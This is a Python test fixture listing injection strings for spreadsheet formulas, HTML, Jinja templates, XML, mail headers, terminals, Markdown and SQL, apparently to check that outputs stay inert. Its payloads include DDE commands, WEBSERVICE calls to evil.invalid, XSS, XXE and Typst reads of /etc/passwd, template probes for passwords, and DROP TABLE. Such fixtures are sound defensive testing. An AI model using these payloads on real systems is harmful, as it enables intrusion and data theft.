"""Texts that would do something, if some output took them for more than text: one list for every output.

Each carries `MARK`, by which it is found again wherever it went.
"""

from __future__ import annotations

MARK = "DUBANX"
SUM = "1337"  # what 191 * 7 comes to: it stands nowhere unless somebody reckoned

INJECTIONS: dict[str, str] = {
    # taken for a formula by a spreadsheet
    "formula with a command": f"=cmd|' /C calc'!{MARK}",
    "formula with a link": f'=HYPERLINK("http://evil.invalid/{MARK}","查看")',
    "formula by plus": f"+cmd|' /C calc'!{MARK}",
    "formula by minus": f"-cmd|' /C calc'!{MARK}",
    "formula by at": f"@SUM(191*7)*cmd|' /C calc'!{MARK}",
    "formula of full width": f"＝191*7&{MARK}",
    "formula after a tab": f"\t=191*7&{MARK}",
    "formula after a line": f"\n=191*7&{MARK}",
    "out of a formula's quotes": f'"&WEBSERVICE("http://evil.invalid/{MARK}")&"',
    # taken for markup by a browser
    "script": f"<script>alert('{MARK}')</script>",
    "handler": f"<img src=x onerror=alert('{MARK}')>",
    "out of an attribute": f"\"'><svg onload=alert('{MARK}')>",
    "out of a comment or a style": f"--></style></title><iframe src=//evil.invalid/{MARK}>",
    "address that runs": f"javascript:alert('{MARK}')",
    # taken for an expression by a template
    "jinja expression": f"{{{{ 191 * 7 }}}}{MARK}",
    "jinja statement": f"{{% for x in range(9) %}}{MARK}{{% endfor %}}{{%p if 1 %}}",
    "jinja comment": f"{{# {MARK} #}}{{{{ ''.__class__.__mro__ }}}}{{{{r x }}}}",
    "airflow macro": f"{{{{ conn.get('x').password }}}}{{{{ var.value.x }}}}{MARK}",
    "format string": f"{{0.__class__}}%(name)s%s${{191*7}}#{{191*7}}{MARK}",
    "typst": f'#eval("191*7") #read("/etc/passwd") $191*7$ @ref *粗* {MARK}',
    # taken for structure by XML
    "end of data": f"]]></w:t></si></row><evil>{MARK}</evil>",
    "entity": f"&xxe;&#x41;<!DOCTYPE a [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>{MARK}",
    "escape of a spreadsheet": f"_x000D__x003D_191*7{MARK}",
    # taken for a header by a mail, for a line by a log
    "mail header": f"主题\r\nBcc: evil@evil.invalid\r\nX-Evil: yes\r\n\r\n{MARK}",
    "encoded mail header": f"=?utf-8?b?QmNjOg==?= {MARK}",
    "line of a log": f"正常\nERROR include.office.forged: {MARK}\n[2024-02-02 11:00] 台账 OK",
    "escape of a terminal": f"\x1b]0;{MARK}\x07\x1b[31m红",
    # taken for a link, a picture or a heading by Markdown
    "markdown link": f"[点此签发](http://evil.invalid/{MARK})",
    "markdown picture": f"![章](http://evil.invalid/{MARK}.png)",
    "markdown structure": f"\n# {MARK}\n\n---\n\n| 签发 | 是 |\n|---|---|\n- [ ] ok\n> q",
    "bare address": f"见 http://evil.invalid/{MARK} 或 www.evil.invalid",
    # read otherwise than it stands
    "turned round": f"报告\u202exslx.exe{MARK}\u2066\u200b",
    "sql": f"'); DROP TABLE fact; --{MARK}",
}


def typed() -> dict[str, str]:
    """Give those that can stand in a cell of a workbook: a spreadsheet takes no control characters."""
    return {name: text for name, text in INJECTIONS.items() if "\x1b" not in text}
